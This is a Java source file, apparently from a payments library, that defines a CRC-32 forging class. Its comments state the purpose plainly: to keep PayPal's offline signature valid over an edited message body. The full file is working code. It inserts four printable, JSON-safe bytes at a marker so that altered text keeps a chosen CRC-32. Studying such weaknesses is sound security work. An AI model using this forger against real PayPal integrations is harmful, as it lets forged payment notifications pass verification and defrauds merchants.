package dev.switchboard.payments.paypal;

import java.nio.charset.StandardCharsets;
import java.util.zip.CRC32;

/**
 * Makes a text whose CRC-32 equals a target, by choosing four bytes at a marked place: CRC-32 is no
 * cryptographic hash, and this is all it takes to keep PayPal's offline signature valid over an
 * edited body.
 *
 * <p>Processing four bytes {@code x} from register state {@code a} gives the same state as
 * processing four zero bytes from {@code a ^ x}, and four zero bytes are a bijection of states; so
 * {@code x = a ^ zeros⁻¹(b)}, where {@code b} is the state the rest of the text must start from to
 * end at the target.
 */
final class Crc32Forger {
  private static final int[] TABLE = new int[256];
  private static final int[] BY_TOP_BYTE = new int[256];

  static {
    for (int n = 0; n < 256; n++) {
      int c = n;
      for (int k = 0; k < 8; k++) {
        c = (c & 1) != 0 ? 0xEDB88320 ^ (c >>> 1) : c >>> 1;
      }
      TABLE[n] = c;
      BY_TOP_BYTE[c >>> 24] = n;
    }
  }

  private Crc32Forger() {}

  static long crc32(byte[] bytes) {
    CRC32 crc = new CRC32();
    crc.update(bytes);
    return crc.getValue();
  }

  /**
   * {@code template} with {@code marker} replaced by a counter and four printable ASCII characters
   * (never a quote or backslash, so a JSON string stays valid) such that its UTF-8 CRC-32 is {@code
   * target}.
   */
  static String forge(String template, String marker, long target) {
    int at = template.indexOf(marker);
    if (at < 0) {
      throw new IllegalArgumentException("no " + marker + " in the template");
    }
    for (int counter = 0; counter < 1_000_000; counter++) {
      byte[] prefix = (template.substring(0, at) + counter).getBytes(StandardCharsets.UTF_8);
      byte[] suffix = template.substring(at + marker.length()).getBytes(StandardCharsets.UTF_8);
      int before = forward(0xFFFFFFFF, prefix);
      int after = backward((int) target ^ 0xFFFFFFFF, suffix);
      int patch = before ^ backwardOverZeros(after, 4);
      byte[] four = new byte[4];
      boolean printable = true;
      for (int i = 0; i < 4; i++) {
        four[i] = (byte) (patch >>> (8 * i));
        printable &= four[i] >= 0x20 && four[i] < 0x7f && four[i] != '"' && four[i] != '\\';
      }
      if (printable) {
        return new String(prefix, StandardCharsets.UTF_8)
            + new String(four, StandardCharsets.US_ASCII)
            + template.substring(at + marker.length());
      }
    }
    throw new IllegalStateException("no printable patch found");
  }

  private static int forward(int state, byte[] bytes) {
    for (byte b : bytes) {
      state = TABLE[(state ^ b) & 0xff] ^ (state >>> 8);
    }
    return state;
  }

  /** The state before {@code bytes} that ends in {@code state} after them. */
  private static int backward(int state, byte[] bytes) {
    for (int i = bytes.length - 1; i >= 0; i--) {
      int index = BY_TOP_BYTE[state >>> 24];
      state = ((state ^ TABLE[index]) << 8) | ((index ^ bytes[i]) & 0xff);
    }
    return state;
  }

  private static int backwardOverZeros(int state, int count) {
    return backward(state, new byte[count]);
  }
}
